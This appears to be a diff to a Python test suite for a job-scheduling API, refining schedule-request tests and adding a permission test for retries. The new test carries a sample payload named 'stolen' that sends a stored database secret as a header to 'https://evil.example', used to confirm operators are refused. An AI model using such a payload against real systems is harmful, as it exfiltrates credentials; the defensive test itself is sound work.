@@ -7,6 +7,7 @@ from collections.abc import AsyncIterator
 from contextlib import asynccontextmanager
 from datetime import UTC, datetime, timedelta
 from typing import Any
+from uuid import UUID
 
 import httpx2
 import pytest
@@ -14,7 +15,7 @@ import pytest
 from tenuto import Context, Tenuto
 from tenuto.api.application import add_middleware, create_api
 from tenuto.ids import new_id
-from tenuto.model.actors import Role
+from tenuto.model.access.actors import Role
 from tests.support.waiting import eventually
 
 HELLO = {"exec_at": "2056-07-07T15:00:00+08:00", "prompt_type": "log.append", "payload": {"message": "Hello"}}
@@ -88,15 +89,16 @@ async def test_one_shot_runs_on_time_and_reports_its_history(app: Tenuto, client
 
     async with app.worker(slots=5, poll_seconds=60, grace_seconds=0):
         at = instant_in(0.3)
+        requests: list[tuple[str, str, dict[str, Any], dict[str, Any]]] = [
+            (at, "log.append", {"message": "Hello", "log": "greetings"}, {}),
+            (instant_in(-3600), "report.send", {"to": "Ana"}, {}),
+            (instant_in(0), "report.send", {"to": "unknown"}, {"max_attempts": 1}),
+            (instant_in(0), "report.send", {"to": "unknown"}, {"retry": {"max_attempts": 2, "base_seconds": 0}}),
+            (instant_in(0), "report.send", {"to": "forever"}, {}),
+        ]
         responses = [
             await client.post("/api/schedule", json={"exec_at": when, "prompt_type": type, "payload": payload, **more})
-            for when, type, payload, more in [
-                (at, "log.append", {"message": "Hello", "log": "greetings"}, {}),
-                (instant_in(-3600), "report.send", {"to": "Ana"}, {}),
-                (instant_in(0), "report.send", {"to": "unknown"}, {}),
-                (instant_in(0), "report.send", {"to": "unknown"}, {"retry": {"max_attempts": 2, "base_seconds": 0}}),
-                (instant_in(0), "report.send", {"to": "forever"}, {}),
-            ]
+            for when, type, payload, more in requests
         ]
         assert [response.status_code for response in responses] == [202] * 5, [response.text for response in responses]
         hello, late, failed, again, forever = (response.headers["location"] for response in responses)
@@ -141,6 +143,8 @@ async def test_one_shot_api_names_the_invalid_field(client: httpx2.AsyncClient) 
         ({"tags": ["x" * 65]}, "tags"),
         ({"tags": "a"}, "tags"),
         ({"retry": {"max_attempts": -1}}, "retry.max_attempts"),
+        ({"max_attempts": 0}, "max_attempts"),
+        ({"max_attempts": 2, "retry": {"max_attempts": 3}}, "max_attempts"),
         ({"timeout_seconds": 0}, "timeout_seconds"),
         ({"timeout_seconds": 1e9}, "timeout_seconds"),
         ({"prio": 1}, "prio"),
@@ -152,7 +156,7 @@ async def test_one_shot_api_names_the_invalid_field(client: httpx2.AsyncClient) 
     assert (await client.get("/api/schedule")).json() == {}
 
 
-async def test_one_shot_request_with_idempotency_key_creates_one(client: httpx2.AsyncClient) -> None:
+async def test_repeated_request_with_idempotency_key_creates_one_one_shot(client: httpx2.AsyncClient) -> None:
     key = {"Idempotency-Key": "order-7"}
     responses = [await client.post("/api/schedule", json=HELLO, headers=key) for _ in range(3)]
     assert {response.status_code for response in responses} == {202}
@@ -231,3 +235,28 @@ async def test_one_shot_with_a_secret_requires_an_editor(app: Tenuto, payload: d
         refused = await operator.post("/api/schedule", json={**CALL, "payload": payload})
         assert (refused.status_code, refused.json()["code"]) == (403, "one_shot.secret.forbidden")
         assert (await editor.post("/api/schedule", json={**CALL, "payload": payload})).status_code == 202
+
+
+async def test_retry_with_a_secret_in_the_input_requires_an_editor(app: Tenuto) -> None:
+    @app.job
+    async def fail(headers: dict[str, Any]) -> None:
+        raise ValueError(headers)
+
+    stolen = {"url": "https://evil.example", "headers": {"x-token": {"secret": "hr/database"}}}
+    data = {"headers": stolen["headers"]}
+    past = {"exec_at": "2026-01-01T00:00:00Z", "max_attempts": 1}
+    call = {**past, "prompt_type": "http.call", "payload": {"url": "http://127.0.0.1:1/"}}
+    async with client_with_role(app, Role.OPERATOR) as operator, client_with_role(app, Role.EDITOR) as editor:
+        created = [await operator.post("/api/schedule", json=call) for _ in range(2)]
+        created.append(await operator.post("/api/schedule", json={**past, "prompt_type": "fail", "payload": data}))
+        async with app.worker():
+            for each in created:
+                assert (await wait_until_ended(operator, each.headers["location"]))["runtimeStatus"] == "Failed"
+        first, second, job = (each.json()["transaction_id"] for each in created)
+        letters = {each.task_id: each.id for each in await app.dead_letters.list()}
+        for path in (f"/api/v1/tasks/{first}/retry", f"/api/v1/dead-letters/{letters[UUID(second)]}/retry"):
+            refused = await operator.post(path, json={"input": stolen})
+            assert (refused.status_code, refused.json()["code"]) == (403, "dead_letter.secret.forbidden")
+            assert (await editor.post(path, json={"input": stolen})).status_code == 202
+        retried = await operator.post(f"/api/v1/tasks/{job}/retry", json={"input": data})
+        assert retried.status_code == 202, "for a job, such data is data"
